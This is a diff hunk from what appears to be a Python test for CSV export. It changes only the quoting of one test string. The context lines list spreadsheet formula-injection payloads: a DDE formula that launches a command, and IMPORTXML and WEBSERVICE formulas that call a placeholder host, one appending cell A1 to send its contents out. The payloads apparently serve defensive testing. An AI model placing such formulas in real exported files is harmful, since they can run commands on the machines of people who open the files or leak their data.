@@ -18,7 +18,7 @@ PAYLOADS = [
     "=DDE(\"cmd\";\"/C calc\";\"x\")", "@", "=", "==1", "=\"a\"&\"b\"",
     "=IMPORTXML(CONCAT(\"http://x.invalid\",A1),\"//a\")", "=WEBSERVICE(\"http://x.invalid\")",
 ]  # fmt: skip
-TEXTS = ["00013800138000", "91330600MA2ABCDE1X", "2026-11-29", "TRUE", "1e5", "a,b\"c\nd", "𠮷䶮"]
+TEXTS = ["00013800138000", "91330600MA2ABCDE1X", "2026-11-29", "TRUE", "1e5", 'a,b"c\nd', "𠮷䶮"]
 
 
 def read_csv(rows):
